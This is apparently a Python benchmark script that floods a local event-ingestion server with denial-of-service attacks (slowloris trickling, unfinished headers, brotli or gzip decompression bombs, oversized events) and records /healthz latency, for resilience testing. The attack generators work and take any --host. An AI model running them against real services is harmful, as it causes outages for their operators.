#!/usr/bin/env python3
"""Attackers for bench/attack.sh (issue #24, items 1-3): many connections from one loopback
address doing one kind of harm until SIGTERM, plus a /healthz probe from another address.
Writes a JSON report: answers by status, connections reset, /healthz latency.

The probe runs in a process of its own, as an orchestrator's would: in the attackers' event
loop, which 2,000 senders of large events keep busy, it measured that loop's backlog. Against
the same release server at the same time: p50 3.3 s there, 2.9 ms from a process of its own.

Kinds:
  slowloris        POST /api/P/envelope/ without a key, Content-Length 100000, one byte
                   every --every seconds (the issue's attack); when answered or cut off,
                   connects again --every seconds later
  slowloris-keyed  the same with a valid key (DSNs are public in browser code)
  headers          a request head sent one byte every --every seconds, never finished
  bombs            a brotli body of a few hundred bytes inflating to 64 MiB, without a
                   key (the issue's), sent again as soon as answered
  bombs-keyed      the same with a valid key: decoded (on the blocking pool) up to the limit
  big              valid events of about --big-bytes each, sent again as soon as answered

Uses only the standard library, except `brotli` for the bombs (the test venv has it; without
it gzip bombs are sent instead, which the report says).
"""
import argparse
import asyncio
import json
import multiprocessing
import signal
import socket
import time
import uuid
import zlib

try:
    import brotli  # type: ignore
except ImportError:  # pragma: no cover - depends on the interpreter
    brotli = None


def bomb(size):
    """A compressed body inflating to `size` zero bytes: (bytes, content coding)."""
    if brotli is not None:
        return brotli.compress(b"\0" * size, quality=5, lgwin=24), "br"
    member = zlib.compressobj(9, zlib.DEFLATED, 31)
    one = member.compress(b"\0" * (1 << 20)) + member.flush()
    return one * (size >> 20), "gzip"


# Where each request's own event id goes (32 characters, as the id that replaces it).
ID_MARK = b"f" * 32


def big_envelope(size):
    """An envelope with one error event of about `size` bytes; ID_MARK marks its event id."""
    event = {
        "event_id": ID_MARK.decode(),
        "platform": "python",
        "level": "error",
        "exception": {"values": [{"type": "BenchError", "value": "big event",
                                  "stacktrace": {"frames": [{"function": "big", "module": "bench",
                                                             "in_app": True}]}}]},
        "extra": {"blob": "x" * max(size - 400, 0)},
    }
    payload = json.dumps(event).encode()
    return b'{"event_id":"' + ID_MARK + b'"}\n' + (
        '{"type":"event","length":%d}\n' % len(payload)).encode() + payload + b"\n"


class Stats:
    def __init__(self):
        self.statuses = {}
        self.resets = 0
        self.connections = 0

    def answer(self, head):
        parts = head.split(b" ", 2)
        code = parts[1].decode() if len(parts) > 1 else "none"
        self.statuses[code] = self.statuses.get(code, 0) + 1


async def read_answer(reader):
    """Reads one answer's head and body; returns the status line (b'' if closed first)."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            length = int(line.split(b":", 1)[1])
    if length:
        await reader.readexactly(length)
    return head.split(b"\r\n", 1)[0]


async def connect(args, stats):
    """A connection from the attackers' address; None (after a pause) when refused."""
    try:
        conn = await asyncio.open_connection(args.host, args.port, local_addr=(args.local, 0))
    except OSError:
        stats.resets += 1
        await asyncio.sleep(0.5)
        return None
    stats.connections += 1
    return conn


async def trickler(args, stats, head, stop):
    """Sends `head`, then one byte every --every s until answered or cut off; again."""
    while not stop.is_set():
        conn = await connect(args, stats)
        if conn is None:
            continue
        reader, writer = conn
        answer = asyncio.ensure_future(read_answer(reader))
        try:
            writer.write(head)
            while not stop.is_set():
                done, _ = await asyncio.wait({answer}, timeout=args.every)
                if done:
                    stats.answer(answer.result())
                    break
                writer.write(b"x")
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            stats.resets += 1
        finally:
            if answer.done() and not answer.cancelled():
                answer.exception()  # retrieved: a cut-off connection is counted above
            answer.cancel()
            writer.close()
        # Back at the attack's own pace, not in a loop of refused connections (a flood of
        # requests is another attack).
        await asyncio.sleep(args.every)


async def sender(args, stats, make_request, stop):
    """Sends a request, reads its answer, and again, on one kept-alive connection."""
    while not stop.is_set():
        conn = await connect(args, stats)
        if conn is None:
            continue
        reader, writer = conn
        try:
            while not stop.is_set():
                writer.write(make_request())
                await writer.drain()
                status = await read_answer(reader)
                stats.answer(status)
                if b" 429 " in status or b" 503 " in status:
                    await asyncio.sleep(1)  # Retry-After
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            stats.resets += 1
        finally:
            writer.close()


def probe(host, port, local, every, stop, results):
    """GET /healthz every `every` s from address `local` on a new connection each time, until
    `stop` is set; sends (latencies in ms, errors) to `results`. Blocking sockets, in a
    process of its own (see the module's doc), which the attackers' process stops."""
    for sig in (signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    latencies, errors = [], 0
    while not stop.is_set():
        started = time.monotonic()
        try:
            with socket.create_connection((host, port), timeout=30,
                                          source_address=(local, 0)) as s:
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
                answer = b""
                while True:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    answer += chunk
            if b" 200 " in answer.split(b"\r\n", 1)[0]:
                latencies.append((time.monotonic() - started) * 1000)
            else:
                errors += 1
        except OSError:
            errors += 1
        stop.wait(every)
    results.send((latencies, errors))


def request(args, body, key, extra=""):
    auth = ("X-Sentry-Auth: Sentry sentry_key=%s, sentry_version=7\r\n" % args.key) if key else ""
    return ("POST /api/%s/envelope/ HTTP/1.1\r\nHost: bench\r\n%s%sContent-Length: %d\r\n\r\n"
            % (args.project, auth, extra, len(body))).encode() + body


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--project", default="1")
    p.add_argument("--key", default="")
    p.add_argument("--kind", required=True,
                   choices=["slowloris", "slowloris-keyed", "headers", "bombs", "bombs-keyed",
                            "big"])
    p.add_argument("--connections", type=int, default=1000)
    p.add_argument("--every", type=float, default=3.0)
    p.add_argument("--big-bytes", type=int, default=800_000)
    p.add_argument("--bomb-bytes", type=int, default=64 << 20)
    p.add_argument("--local", default="127.0.0.2", help="the attackers' source address")
    p.add_argument("--probe-local", default="127.0.0.3")
    p.add_argument("--probe-every", type=float, default=0.1)
    p.add_argument("--report", required=True)
    p.add_argument("--ready", help="file written once every attacker has started")
    args = p.parse_args()

    # The probe's process is started first, before any attacker, and stopped last.
    spawn = multiprocessing.get_context("spawn")
    probe_stop = spawn.Event()
    probe_results, probe_sends = spawn.Pipe(duplex=False)
    prober = spawn.Process(target=probe, daemon=True,
                           args=(args.host, args.port, args.probe_local, args.probe_every,
                                 probe_stop, probe_sends))
    prober.start()
    stats, coding = asyncio.run(attack(args))
    probe_stop.set()
    probes, probe_errors = probe_results.recv() if probe_results.poll(60) else ([], 0)
    prober.join(10)

    probes = sorted(probes)
    def q(f):
        return round(probes[min(len(probes) - 1, int(f * len(probes)))], 1) if probes else None
    json.dump({
        "kind": args.kind,
        "connections": args.connections,
        "connections_opened": stats.connections,
        "answers": stats.statuses,
        "cut_off_or_reset": stats.resets,
        "bomb_coding": coding,
        "healthz": {"probes": len(probes), "errors": probe_errors, "p50_ms": q(0.5),
                    "p99_ms": q(0.99), "max_ms": round(probes[-1], 1) if probes else None},
    }, open(args.report, "w"), indent=2)


async def attack(args):
    """Runs the attackers until SIGTERM or SIGINT; returns their Stats and the bombs' coding."""
    stats = Stats()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)

    tasks = []
    coding = None
    if args.kind in ("slowloris", "slowloris-keyed"):
        head = ("POST /api/%s/envelope/ HTTP/1.1\r\nHost: bench\r\n%sContent-Length: 100000\r\n\r\n{"
                % (args.project, ("X-Sentry-Auth: Sentry sentry_key=%s, sentry_version=7\r\n" % args.key)
                   if args.kind == "slowloris-keyed" else "")).encode()
        tasks = [trickler(args, stats, head, stop) for _ in range(args.connections)]
    elif args.kind == "headers":
        head = ("POST /api/%s/envelope/ HTTP/1.1\r\nHost: bench\r\n" % args.project).encode()
        tasks = [trickler(args, stats, head, stop) for _ in range(args.connections)]
    elif args.kind in ("bombs", "bombs-keyed"):
        body, coding = bomb(args.bomb_bytes)
        req = request(args, body, args.kind == "bombs-keyed", "Content-Encoding: %s\r\n" % coding)
        tasks = [sender(args, stats, lambda: req, stop) for _ in range(args.connections)]
    else:
        template = request(args, big_envelope(args.big_bytes), True)
        tasks = [sender(args, stats, lambda: template.replace(ID_MARK, uuid.uuid4().hex.encode()), stop)
                 for _ in range(args.connections)]
    running = [asyncio.ensure_future(t) for t in tasks]
    if args.ready:
        await asyncio.sleep(1)
        open(args.ready, "w").close()
    await stop.wait()
    for t in running:
        t.cancel()
    await asyncio.gather(*running, return_exceptions=True)
    return stats, coding


if __name__ == "__main__":
    main()
